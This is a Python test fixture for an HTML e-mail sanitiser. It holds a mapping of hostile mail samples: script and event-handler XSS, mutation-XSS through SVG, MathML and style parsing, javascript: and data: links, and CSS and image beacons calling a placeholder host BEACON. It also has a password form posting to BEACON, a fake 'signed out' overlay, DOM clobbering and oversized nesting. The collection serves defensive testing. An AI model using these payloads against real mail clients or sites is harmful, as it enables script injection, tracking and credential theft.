"""HTML mails that try to run, load, send, lead away or dress up as the page. The test fills in BEACON and PORTAL.

Collected from what sanitisers had to learn: script and handlers, URL schemes, CSS, mutation through namespaces, DOM
clobbering, refresh and base, forms, prefetching, pictures.
"""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

_RUN = "alert(1);fetch('BEACON/run');new Image().src='BEACON/run2'"

HOSTILE: Mapping[str, str] = MappingProxyType(
    {
        "script": f"<script>{_RUN}</script><script src=BEACON/s.js></script><SCRIPT/XSS SRC=BEACON/s2.js></SCRIPT>",
        "script split": f"<scr<script>ipt>{_RUN}</scr</script>ipt><script type=module>{_RUN}</script>",
        "handlers": f'<p onclick="{_RUN}" onmouseover="{_RUN}" onfocus="{_RUN}" tabindex=0>x</p>'
        f'<body onload="{_RUN}" onpageshow="{_RUN}" onresize="{_RUN}">',
        "image error": f'<img src=x onerror="{_RUN}"><img src="data:image/png;base64,AA==" onerror="{_RUN}">',
        "svg": f'<svg onload="{_RUN}"><script>{_RUN}</script><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
        "svg use": '<svg><use href="BEACON/u.svg#x"/><image href="BEACON/i.png"/><feImage href="BEACON/f.png"/></svg>',
        "svg foreign": f'<svg><foreignObject><iframe srcdoc="<script>{_RUN}</script>"></iframe></foreignObject></svg>',
        "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
        "math href": '<math href="javascript:alert(1)">click</math><math><maction actiontype="statusline#BEACON/m">x',
        "mutation noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
        "mutation style": f'<style><a title="</style><img src=x onerror={_RUN}>"></style>',
        "mutation form": f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img '
        f'onerror={_RUN} src=x>">',
        "mutation template": f'<template><img src=x onerror="{_RUN}"></template><template shadowrootmode=open><slot '
        f'onslotchange="{_RUN}"></slot></template>',
        "mutation title": f'<svg></p><title><a id="</title><img src=x onerror={_RUN}>"></a></svg>',
        "mutation cdata": f"<svg><style><![CDATA[</style><img src=x onerror={_RUN}>]]></svg>",
        "mutation select": f'<select><template><style><!--</style><a rel="--&gt;&lt;img src=x onerror={_RUN}&gt;">',
        "mutation annotation": f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={_RUN}></style>',
        "mutation xmp": f'<xmp><p title="</xmp><svg/onload={_RUN}>"></xmp><plaintext></plaintext>END-OF-MAIL',
        "links": '<a href="javascript:alert(1)">a</a><a href=" &#1;java&#9;script:alert(1)">b</a>'
        '<a href="JaVaScRiPt:alert(1)">c</a><a href="data:text/html,<script>alert(1)</script>">d</a>'
        '<a href="vbscript:x">e</a><a href="blob:null/x">f</a><a href="file:///etc/passwd">g</a>'
        '<a href="/api/logout">h</a><a href="//BEACON/x">i</a><a href="#/account">j</a>'
        '<a href="https://bank.example/" target="_top" rel="opener" ping="BEACON/ping">k</a>',
        # Not hostile: what is done about style attributes must leave addresses alone.
        "style in addresses": '<a style = "color:red" href="https://shop.example/style=black/x?y=1">a</a>'
        "<a href=https://shop.example/style=grey>b</a><a href='https://shop.example/?a=1&amp;b= /style=c'>c</a>"
        '<a title="1 > 0 /style=" href = "https://shop.example/style=white" style=top:0>d</a>',
        "area": '<img usemap="#m" src="cid:p0"><map name=m><area href="javascript:alert(1)" shape=default></map>',
        "refresh": '<meta http-equiv=refresh content="0;url=BEACON/r"><meta http-equiv="refresh" content="0;PORTAL/">',
        "meta policy": '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name=referrer '
        "content=unsafe-url>",
        "base": '<base href="BEACON/"><base target=_top><a href="x.html">x</a><img src="y.png">',
        "frames": '<iframe src="BEACON/if"></iframe><iframe src="PORTAL/mailbox"></iframe><iframe srcdoc="<script>'
        'parent.postMessage(1,`*`)</script>"></iframe><frameset><frame src="BEACON/fr"></frameset>'
        '<fencedframe src="BEACON/ff"></fencedframe><portal src="BEACON/po"></portal>',
        "objects": '<object data="BEACON/o.swf"><embed src="BEACON/e.swf"><applet code=x codebase="BEACON/"></applet>'
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
        "forms": '<form action="BEACON/form" method=post id=f><input name=p type=password autofocus onfocus="alert(1)">'
        f'<input type=image src="BEACON/in.png"><button formaction="BEACON/b">Sign in</button>'
        f'<isindex action="BEACON/x">'
        f'</form><button form=f onclick="{_RUN}">x</button><keygen autofocus onfocus={_RUN}>',
        "pictures": '<img src="BEACON/1.png"><img srcset="BEACON/2.png 1x"><picture><source srcset="BEACON/3.png"><img '
        'src="BEACON/4.png"></picture><img src="//BEACON/5.png"><img src="PORTAL/api/logout">'
        '<img lowsrc="BEACON/6.png">'
        '<img src="/api/session"><img dynsrc="BEACON/7.avi"><image src="BEACON/8.png"><img src="data:image/svg+xml,'
        '<svg onload=alert(1) xmlns=http://www.w3.org/2000/svg/>"><img src="blob:PORTAL/1">',
        "media": '<video src="BEACON/v" poster="BEACON/p" autoplay><source src="BEACON/v2">'
        '<track src="BEACON/t"></video>'
        f'<audio src="BEACON/a" autoplay onplay="{_RUN}"></audio><bgsound src="BEACON/bg">',
        "prefetch": '<link rel=stylesheet href="BEACON/l.css">'
        '<link rel=prefetch href="BEACON/pf"><link rel=preload as=image '
        'href="BEACON/pl"><link rel=dns-prefetch href="//dns.example"><link rel=preconnect href="BEACON/">'
        '<link rel=modulepreload href="BEACON/mp.js"><link rel=icon href="BEACON/icon">'
        '<link rel=import href="BEACON/imp">',
        "backgrounds": '<body background="BEACON/b1"><table background="BEACON/b2"><tr>'
        '<td background="BEACON/b3">x</td></tr>'
        "</table>",
        "css urls": '<p style="background:url(BEACON/c1)">x</p>'
        "<p style=\"background-image:image-set('BEACON/c2' 1x)\">x</p>"
        '<p style="list-style-image:url(BEACON/c3);cursor:url(BEACON/c4),auto">x</p>'
        '<p style="content:url(BEACON/c5)">x</p>'
        '<p style="border-image:url(BEACON/c6) 1;mask:url(BEACON/c7);filter:url(BEACON/c8)">x</p>'
        '<p style="background:\\75rl(BEACON/c9)">x</p><p style="--x:url(BEACON/c10);background:var(--x)">x</p>'
        '<p style="shape-outside:url(BEACON/c11);clip-path:url(BEACON/c12);offset-path:url(BEACON/c13)">x</p>'
        '<p style="width:expression(alert(1));behavior:url(BEACON/c14);-moz-binding:url(BEACON/c15)">x</p>'
        '<font style="font-family:a;src:url(BEACON/c16)">x</font>'
        '<p style="background:-webkit-cross-fade(url(BEACON/c17),'
        'url(BEACON/c18),50%)">x</p><p style="color:attr(title url)">x</p>',
        "css sheets": '<style>@import "BEACON/i.css";@font-face{font-family:x;src:url(BEACON/f.woff)}*{background:url('
        "BEACON/s)}a[href^=h]{background:url(BEACON/t)}</style>"
        "<style media=all>body:before{content:url(BEACON/u)}</style>",
        "css layout": ""
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:#fff">You were '
        'signed out</div><div style="height:100vh">grows</div><div style="height:1e9px">long</div>'
        '<p style="animation:x 1s;transition:all 1s">x</p>',
        "clobbering": "<a id=body>x</a><form id=parent name=parent>"
        "<input name=createElement id=ports></form><img name=head>"
        "<img id=adoptedStyleSheets name=adoptedStyleSheets>"
        '<a id=location name=location href="https://x.example/">x</a>'
        "<form><input name=attributes><input name=childNodes><input name=localName></form>",
        "custom elements": f'<x-foo onclick="{_RUN}" is=script>x</x-foo><p is="x-foo">x</p><slot name=x>y</slot>',
        "details": f'<details open ontoggle="{_RUN}"><summary>x</summary>y</details>'
        f'<marquee onstart="{_RUN}">x</marquee>'
        f'<dialog open onclose="{_RUN}">x</dialog><p popover id=q onbeforetoggle="{_RUN}">x</p>',
        "encodings": "<p title='\u0000<\u0000script>'>\u0000</p>\ufeff<scr\u0000ipt>alert(1)"
        "</script>&lt;script&gt;alert(1)&lt;"
        "/script&gt;<p>\u202egpj.exe\u202c</p>",
        "comments": f"<!--><script>{_RUN}</script>--><!--[if IE]><script>{_RUN}</script><![endif]--><!--!><img src=x "
        f"onerror={_RUN}>--><?xml-stylesheet href='BEACON/x.xsl'?><!DOCTYPE x [<!ENTITY y SYSTEM 'BEACON/dtd'>]>",
        "data urls": '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
        '<img src="data:image/png,x">'
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" download=x.html>x</a>',
        "deep": "<div>" * 20000 + "deep" + "</div>" * 20000 + "<b>" * 3000,
        "many": "<i>x</i>" * 5000,
    }
)
END = "<p>END-OF-MAIL</p>"
